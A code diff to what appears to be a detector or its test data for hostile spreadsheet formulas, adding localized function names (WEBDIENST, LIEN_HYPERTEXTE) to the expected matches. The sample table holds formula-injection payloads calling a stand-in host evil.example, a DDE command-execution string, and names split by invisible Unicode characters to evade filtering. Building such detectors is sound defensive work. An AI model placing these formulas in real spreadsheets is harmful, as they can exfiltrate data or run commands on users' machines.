@@ -6,7 +6,7 @@ export type HostileReply = {
   mark: string;
   /** It has characters that nobody sees. */
   hides: boolean;
-  /** What its formula reaches out by. */
+  /** What its formula reaches out by, as a pattern: what comes from a model is shown in the person's language of functions. */
   reach: string | null;
 };
 
@@ -112,8 +112,8 @@ const formulas: readonly [string, string | null][] = [
   ['=RTD("evil.here","","a")', "RTD"],
   ["=cmd|'/c calc here'!A1", "DDE"],
   ['=MAP(A1:A9,WEBSERVICE)&"here"', "WEBSERVICE"],
-  ['=WEBDIENST("https://evil.example/here")', "WEBDIENST"],
-  ['=LIEN_HYPERTEXTE("https://evil.example/here")', "LIEN_HYPERTEXTE"],
+  ['=WEBDIENST("https://evil.example/here")', "WEBDIENST|WEBSERVICE"],
+  ['=LIEN_HYPERTEXTE("https://evil.example/here")', "LIEN_HYPERTEXTE|HYPERLINK"],
   ['=WEB\u200bSERVICE("https://evil.example/here")', "WEBSERVICE"],
   ['=HYPER\u00adLINK("https://evil.example/here","a")', "HYPERLINK"],
   ['=IMPORT\u2060XML\u202e("https://evil.example/here","a")', "IMPORTXML"],
